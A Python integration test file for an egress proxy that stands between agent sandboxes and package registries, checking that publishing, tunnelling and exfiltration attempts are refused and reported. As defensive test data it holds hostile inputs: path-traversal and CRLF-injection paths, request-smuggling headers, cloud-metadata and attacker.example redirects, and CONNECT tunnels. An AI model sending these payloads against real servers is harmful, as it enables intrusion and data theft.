"""What an agent would try at the package proxies to get something out, or something bad in: denied, with a reason that the report shows."""

import asyncio
import hashlib
import json
import shutil
import time
from collections.abc import AsyncIterator
from pathlib import Path

import aiohttp
import pytest
from aiohttp import web

from tests.integration.services.runner.egress.sandboxes import ALL, BASE, JSON, Sandbox, Sandboxes, client
from tests.servers.egress import EgressProcess
from tests.servers.registry import Registry, wheel

HOST = b"Host: 127.0.0.1:8090\r\n"
WHEEL = "/packages/aa/demo-1.0-py3-none-any.whl"
CRATE = "cargo/crates/demo/1.0.0/download"


def kept(sandboxes: Sandboxes) -> list[Path]:
    return list((sandboxes.egress.directory / "state/packages").iterdir())


@pytest.mark.parametrize("method", ["PUT", "POST", "DELETE", "PATCH", "OPTIONS", "TRACE", "PROPFIND", "MKCOL", "LINK"])
async def test_nothing_is_ever_published(sandboxes: Sandboxes, registry: Registry, method: str) -> None:
    sandbox = await sandboxes.door(*ALL)
    for path in (
        "pip/legacy/",
        "npm/demo",
        "npm/-/user/org.couchdb.user:x",
        "cargo/api/v1/crates/new",
        "go/github.com/a/b/@v/v1.0.0.zip",
        "debian/0/x",
    ):
        assert b" 403 " in await sandbox.raw(f"{method} /packages/{path} HTTP/1.1\r\n".encode() + HOST + b"Content-Length: 3\r\n\r\nabc")
    assert {(each.reason, each.ecosystem) for each in (await sandbox.report()).refusals} == {("method_denied", family) for family in ALL}
    assert registry.asked == []


async def test_npm_publishes_nothing(sandboxes: Sandboxes, registry: Registry, tmp_path: Path) -> None:
    npm = shutil.which("npm")
    if npm is None:
        pytest.skip("needs npm")
    (tmp_path / "package.json").write_text('{"name": "loot", "version": "1.0.0"}')
    (tmp_path / "secret.txt").write_text("secret")
    sandbox = await sandboxes.door("npm")
    async with sandbox.port() as port:
        url = f"//127.0.0.1:{port}/packages/npm/"
        (tmp_path / ".npmrc").write_text(f"registry=http:{url}\n{url}:_authToken=the-attackers-own\n")
        with pytest.raises(AssertionError, match="403"):
            await client(npm, "publish", home=tmp_path)
    assert "method_denied" in await sandbox.reasons()
    assert all(method == "GET" and "secret" not in path for method, path in registry.asked)
    assert "the-attackers-own" not in json.dumps(registry.headers)


async def test_no_tunnel_is_opened_and_nothing_beside_the_packages_is_there(sandboxes: Sandboxes, registry: Registry) -> None:
    sandbox = await sandboxes.door(*ALL)
    for first in (
        b"CONNECT attacker.example:443",
        b"GET /",
        b"POST /v1/messages",
        b"GET /metrics",
        b"GET http://169.254.169.254/latest/meta-data/",
    ):
        line = await sandbox.raw(first + b" HTTP/1.1\r\n" + HOST + b"\r\n")
        assert line.split()[1] in {b"400", b"403"}, (first, line)
    told = {(each.reason, each.host) for each in (await sandbox.report()).refusals}
    assert told == {("path_denied", None), ("connect_denied", "attacker.example")}
    assert registry.asked == []


@pytest.mark.parametrize(
    ("module", "reason", "host"),
    [
        ("attacker.example/secret", "module_host_denied", "attacker.example"),
        ("github.com.attacker.example/x", "module_host_denied", "github.com.attacker.example"),
        ("github.community/x", "module_host_denied", "github.community"),
        ("golang.org/xx", "module_host_denied", "golang.org"),
        ("127.0.0.1/x", "module_host_denied", "127.0.0.1"),
        ("sum.golang.org/lookup", "module_host_denied", "sum.golang.org"),
        ("attacker.example%2fsecret", "path_denied", None),
        ("github.com/../attacker.example/x", "path_denied", None),
        ("github.com%2f..%2fattacker.example/x", "path_denied", None),
        ("github.com@attacker.example/x", "path_denied", None),
        ("github.com:443@attacker.example/x", "path_denied", None),
        ("%61ttacker.example/x", "path_denied", None),
        ("GitHub.com/x", "path_denied", None),
        ("https://attacker.example/x", "path_denied", None),
    ],
)
async def test_no_module_proxy_is_sent_to_an_attackers_host(
    sandboxes: Sandboxes, registry: Registry, module: str, reason: str, host: str | None
) -> None:
    sandbox = await sandboxes.door("go")
    for what in ("@v/list", "@latest", "@v/v1.0.0.zip"):
        assert b" 403 " in await sandbox.raw(f"GET /packages/go/{module}/{what} HTTP/1.1\r\n".encode() + HOST + b"\r\n")
    assert {(each.reason, each.host) for each in (await sandbox.report()).refusals} == {(reason, host)}
    assert registry.asked == []


@pytest.mark.parametrize(
    "path",
    [
        "pip/simple/..%2f..%2fetc/",
        "pip/simple/%2e%2e%2fdemo/",
        "pip/simple/..%5cdemo/",
        "pip/simple/..;/demo/",
        "pip/simple/demo;x=1/",
        "pip/simple/%c0%ae%c0%ae/",
        "pip/simple/demo%0d%0aX-Secret:%201/",
        "pip/simple/d%65mo/",
        "pip/simple/\xe9/",
        "pip/simple/demo//",
        "pip/" + "a/" * 600,
        "npm/@team%252fdemo",
        "npm/@team%2fdemo%2f-%2fdemo-1.0.0.tgz%2f..",
        "npm/http:%2f%2f169.254.169.254%2f",
        "npm/demo/-/..%2f..%2fother-1.0.0.tgz",
        "cargo/de/mo/..%2f..%2fconfig.json",
        "cargo/crates/demo/1.0.0%2f..%2f..%2fapi/download",
        "debian/0/pool/main/../../../etc/passwd.deb",
        "debian/0/dists/..%2f..%2fsecret",
        "debian/-1/dists/stable/InRelease",
        "debian/\u0660/dists/stable/InRelease",
    ],
)
async def test_no_path_leads_out_of_its_registry(sandboxes: Sandboxes, registry: Registry, path: str) -> None:
    sandbox = await sandboxes.door(*ALL)
    line = await sandbox.raw(b"GET /packages/" + path.encode() + b" HTTP/1.1\r\n" + HOST + b"\r\n")
    assert line.split()[1] in {b"400", b"403"}, line
    if b" 403 " in line:
        assert await sandbox.reasons() <= {"path_denied", "path_too_long"}
    assert registry.asked == []


@pytest.mark.parametrize(
    "headers",
    [
        b"Host: attacker.example\r\n",
        b"Host: 127.0.0.1:8090@attacker.example\r\n",
        b"Host: 127.0.0.1:8090/../x\r\n",
        HOST + b"Host: attacker.example\r\n",
        b"Host: attacker.example\r\n" + HOST,
        HOST + b"Content-Length: 0\r\nContent-Length: 40\r\n",
        HOST + b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n",
        HOST + b"Transfer-Encoding : chunked\r\n",
        HOST + b"Content-Length: +5\r\n",
        b"Host: 127.0.0.1:8090\r\n\tattacker.example\r\n",
    ],
)
async def test_no_header_is_read_in_two_ways(sandboxes: Sandboxes, registry: Registry, headers: bytes) -> None:
    """Nothing of a request reaches the registry but a path that was checked: so two readings could only show in the answers."""
    sandbox = await sandboxes.door("pip")
    smuggled = b"PUT /packages/npm/loot HTTP/1.1\r\n" + HOST + b"\r\n"
    line = await sandbox.raw(b"GET /packages/pip/simple/demo/ HTTP/1.1\r\n" + headers + b"\r\n" + smuggled)
    assert line == b"" or line.split()[1] in {b"400", b"403"}, line
    assert registry.asked == []
    assert "attacker" not in json.dumps(registry.headers)


@pytest.mark.parametrize(
    "target",
    [
        "http://169.254.169.254/latest/meta-data/",
        "https://attacker.example/loot",
        "//attacker.example/loot",
        "https://{here}@attacker.example/",
        "https://attacker.example\\@{here}/",
        "https://user:password@{here}/simple/demo/",
        "http://{here}/simple/demo/",
        "https://[::ffff:169.254.169.254]/",
        "https://[",
        "https://{here}:99999/",
        "file:///etc/passwd",
        "data:text/html,x",
        "",
    ],
)
async def test_a_registry_leads_nowhere_else(sandboxes: Sandboxes, registry: Registry, target: str) -> None:
    here = registry.url.removeprefix("https://")
    registry.redirect("/simple/led/", target.replace("{here}", here))
    registry.redirect("/debian/pool/main/l/led/led.deb", target.replace("{here}", here))
    sandbox = await sandboxes.door("pip", "debian")
    for path in ("pip/simple/led/", "debian/0/pool/main/l/led/led.deb"):
        assert (await sandbox.get(path))[0] == 403
    assert await sandbox.reasons() == {"redirect_denied"}
    assert [path for _, path in registry.asked] == ["/simple/led/", "/debian/pool/main/l/led/led.deb"]
    assert not kept(sandboxes)


async def test_what_is_kept_for_all_is_what_the_index_says(sandboxes: Sandboxes, registry: Registry) -> None:
    """A registry, or whoever stands before it, that once answers with something else harms nobody's next run."""
    good: dict[str, tuple[str, str]] = {
        "crate": ("/crates/demo/1.0.0/download", CRATE),
        "npm": ("/npm/demo/-/demo-1.0.0.tgz", "npm/demo/-/demo-1.0.0.tgz"),
    }
    for server, path in good.values():
        right = registry.answers[server]
        assert isinstance(right, bytes)
        registry.answers[server] = b"<html>not here</html>"
        one, other = await sandboxes.door(*ALL), await sandboxes.door(*ALL)
        with pytest.raises(aiohttp.ClientError):
            await one.get(path)
        assert await one.reasons() == {"content_wrong"}
        assert not kept(sandboxes)
        registry.answers[server] = right
        assert await other.get(path) == (200, right)
        registry.answers[server] = b"<html>not here</html>"
        assert await one.get(path) == (200, right)
        for file in kept(sandboxes):
            file.unlink()


async def test_what_no_index_lists_is_not_asked_for(sandboxes: Sandboxes, registry: Registry) -> None:
    sandbox = await sandboxes.door("npm", "cargo")
    assert (await sandbox.get("npm/demo/-/secret-of-the-sandbox-1.0.0.tgz"))[0] == 403
    assert (await sandbox.get("cargo/crates/demo/9.9.9-secret/download"))[0] == 403
    assert await sandbox.reasons() == {"link_unknown"}
    assert "secret" not in json.dumps(registry.asked)


async def test_a_part_is_not_kept_for_the_whole(sandboxes: Sandboxes, registry: Registry) -> None:
    async def cut(request: web.Request) -> web.StreamResponse:
        assert request.transport is not None
        request.transport.write(b"HTTP/1.1 200 OK\r\nConnection: close\r\n\r\n!<ar")
        request.transport.close()
        return web.Response()

    path = "/debian/pool/main/d/demo/demo_1.0-1+b1_all.deb"
    whole = registry.answers[path]
    registry.answers[path] = cut
    sandbox = await sandboxes.door("debian")
    asked = "debian/0/pool/main/d/demo/demo_1.0-1%2bb1_all.deb"
    assert await sandbox.get(asked) == (200, b"!<ar")
    assert not kept(sandboxes)
    registry.answers[path] = whole
    assert await sandbox.get(asked) == (200, whole)


async def test_a_sandbox_has_no_say_in_what_is_kept(sandboxes: Sandboxes, registry: Registry) -> None:
    sandbox = await sandboxes.door("pip")
    link = await sandbox.link()
    get = f"GET /packages/{link} HTTP/1.1\r\n".encode() + HOST
    said = b"Range: bytes=0-3\r\nIf-None-Match: *\r\nAccept-Encoding: gzip\r\nAccept: text/evil\r\nCache-Control: no-store\r\n"
    assert b" 200 " in await sandbox.raw(get + said + b"\r\n")
    await sandbox.get(link)
    (file,) = kept(sandboxes)
    assert file.read_bytes() == wheel("demo", "1.0")
    assert all(not {"range", "if-none-match", "cache-control"} & headers.keys() for headers in registry.headers)
    file.unlink()
    assert (await sandbox.get(link, method="HEAD")) == (200, b"")
    assert not kept(sandboxes)


async def test_what_others_have_fetched_is_not_there_for_a_project_without_the_family(sandboxes: Sandboxes, registry: Registry) -> None:
    one, other = await sandboxes.door("pip"), await sandboxes.door("npm")
    link = await one.link()
    await one.get(link)
    before = len(registry.asked)
    assert (await other.get(link))[0] == 403
    assert (await other.get(link.replace("pip/", "npm/", 1)))[0] == 403
    assert await other.reasons() == {"ecosystem_denied", "link_unknown"}
    assert len(registry.asked) == before


async def test_a_flood_of_refusals_hides_none_of_another_kind(sandboxes: Sandboxes) -> None:
    sandbox = await sandboxes.door("pip")
    for number in range(40):
        await sandbox.get(f"pip/{number}")
    await sandbox.get("npm/demo", method="PUT")
    report = await sandbox.report()
    assert await sandbox.reasons() == {"path_denied", "method_denied"}
    assert len(report.refusals) < 20


@pytest.fixture
async def hasty(registry: Registry, short_path: Path) -> AsyncIterator[Sandboxes]:
    """An egress process that waits for nobody for long."""
    bounds = {"ANSWER_SECONDS": "2", "IDLE_SECONDS": "30", "FILE_MIB": "4", "INDEX_MIB": "2"}
    more = registry.settings() | {f"EGRESS_PACKAGES_{name}": value for name, value in bounds.items()}
    egress = EgressProcess(short_path, "https://127.0.0.1:1", more=more)
    await egress.start()
    yield Sandboxes(egress)
    egress.stop()


async def test_an_answer_that_trickles_ends_and_so_does_a_sandbox_that_does_not_read(hasty: Sandboxes, registry: Registry) -> None:
    async def trickling(request: web.Request) -> web.StreamResponse:
        response = web.StreamResponse()
        await response.prepare(request)
        while True:
            await response.write(b" ")
            await asyncio.sleep(0.1)

    registry.answers["/simple/slow/"] = trickling
    registry.answers["/debian/pool/main/s/slow/slow.deb"] = trickling
    large = "/debian/pool/main/l/large/large.deb"
    registry.answers[large] = bytes(3 * 1024 * 1024)
    sandbox = await hasty.door("pip", "debian")
    begun = time.monotonic()
    assert (await sandbox.get("pip/simple/slow/"))[0] == 502
    with pytest.raises(aiohttp.ClientError):
        await sandbox.get("debian/0/pool/main/s/slow/slow.deb")
    writers: list[asyncio.StreamWriter] = []
    for _ in range(8):  # all that a door may have under way
        reader, writer = await asyncio.open_unix_connection(str(sandbox.socket), limit=1024)
        writer.write(f"GET /packages/debian/0{large.removeprefix('/debian')} HTTP/1.1\r\n".encode() + HOST + b"\r\n")
        await reader.readline()
        writers.append(writer)
    assert (await (await hasty.door("pip")).get("pip/simple/demo/"))[0] == 200, "others' doors go on meanwhile"
    assert (await sandbox.get("pip/simple/demo/"))[0] == 200
    assert time.monotonic() - begun < 60
    for writer in writers:
        writer.close()


async def test_what_says_that_it_is_huge_is_not_begun(hasty: Sandboxes, registry: Registry) -> None:
    async def huge(request: web.Request) -> web.StreamResponse:
        response = web.StreamResponse(headers={"content-length": str(1 << 40)})
        await response.prepare(request)
        return response

    registry.answers["/debian/pool/main/h/huge/huge.deb"] = huge
    sandbox = await hasty.door("debian")
    assert (await sandbox.get("debian/0/pool/main/h/huge/huge.deb"))[0] == 403
    assert await sandbox.reasons() == {"file_too_large"}


async def test_an_index_that_is_huge_when_it_is_read_takes_nobodys_memory(hasty: Sandboxes, registry: Registry) -> None:
    registry.answers["/npm/deep"] = b"[" * 1_000_000
    registry.answers["/npm/number"] = b'{"versions": {"1": ' + b"9" * 1_000_000 + b"}}"
    registry.answers["/npm/large"] = b'{"versions": {' + b" " * (2 << 20) + b"}}"
    sandbox = await hasty.door("npm")
    assert [(await sandbox.get(f"npm/{name}"))[0] for name in ("deep", "number", "large")] == [502, 502, 403]
    assert await sandbox.reasons() == {"index_too_large"}


async def test_a_door_to_a_model_keeps_its_token_beside_packages(registry: Registry, short_path: Path) -> None:
    egress = EgressProcess(short_path, "https://127.0.0.1:1", more=registry.settings())
    await egress.start()
    try:
        document = egress.door("sk-ant-planted") | {"packages": ["pip"]}
        sandbox = Sandbox(egress, document, await egress.open(document))
        assert (await sandbox.get("pip/simple/demo/", accept=JSON))[0] == 200
        for token in ("", "wrong", "t" * 31, "sk-ant-planted"):
            line = await sandbox.raw(f"POST /v1/messages HTTP/1.1\r\nx-api-key: {token}\r\nContent-Length: 0\r\n".encode() + HOST + b"\r\n")
            assert b" 400 " in line
        assert await sandbox.reasons() == {"token_wrong"}
        digest = hashlib.sha256(f"POST {BASE.removeprefix('http://')} /v1/messages".encode()).hexdigest()
        assert {each.request_digest for each in (await sandbox.report()).refusals} == {digest}
        assert "sk-ant" not in json.dumps(registry.headers)
    finally:
        egress.stop()
